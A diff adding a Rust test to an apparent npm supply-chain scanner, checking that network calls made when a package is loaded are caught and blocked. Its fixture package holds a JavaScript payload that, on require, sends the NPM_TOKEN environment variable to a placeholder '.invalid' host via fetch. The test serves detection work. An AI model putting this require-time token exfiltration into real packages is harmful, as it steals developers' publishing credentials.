@@ -750,6 +750,55 @@ fn behaviour_the_previous_version_had_is_not_reported() {
     );
 }
 
+/// Calls made when the package is loaded, not installed: `fetch`, `dns.resolve4` and
+/// `dns.lookup` at `require` time (an injected runtime payload, no install hook at all).
+#[test]
+fn calls_made_at_require_time_are_recorded() {
+    if !have_tools("require_time", &["node", "sh"]) {
+        return;
+    }
+    let world = World::new();
+    let registry = world.root().join("registry");
+    let clean = simple("loads-and-calls", "1.0.0", "2026-03-02T10:00:00.000Z", None);
+    let payload = "'use strict';\n\
+         module.exports = () => 'loads-and-calls 1.0.0';\n\
+         const dns = require('dns');\n\
+         const t = setTimeout(() => {}, 3000);\n\
+         dns.resolve4('resolve.load-time.invalid', () => {});\n\
+         dns.lookup('lookup.load-time.invalid', () => {});\n\
+         fetch('https://fetch.load-time.invalid/x?k=' + (process.env.NPM_TOKEN || '')).catch(() => {}).finally(() => clearTimeout(t));\n";
+    let injected = Pkg::new(
+        "loads-and-calls",
+        "1.0.1",
+        "2026-09-14T10:00:00.000Z",
+        json!({"main": "index.js", "license": "MIT"}),
+        &[("index.js", payload)],
+    );
+    write_registry(&registry, &[&clean, &injected]);
+    let base = write_lockfile(&world.root().join("base"), &[&clean]);
+    let head = write_lockfile(&world.root().join("head"), &[&injected]);
+    let run = world.diff(&base, &head, &registry, true);
+    let r = run.report();
+    let report = run.json();
+    let pkg = package(&report, "loads-and-calls", &run);
+    let net =
+        finding(pkg, "detonation-network").unwrap_or_else(|| panic!("no detonation-network{r}"));
+    let ev = evidence(net);
+    for name in [
+        "resolve.load-time.invalid",
+        "lookup.load-time.invalid",
+        "fetch.load-time.invalid",
+    ] {
+        assert!(
+            ev.iter()
+                .any(|(path, snippet)| path.starts_with("detonation:require")
+                    && snippet.contains(name)),
+            "no require-time evidence for {name}: {net:#}{r}"
+        );
+    }
+    assert_eq!(pkg["verdict"], "block", "{r}");
+}
+
 // ---------------------------------------------------------------------------------------
 // d. explain
 
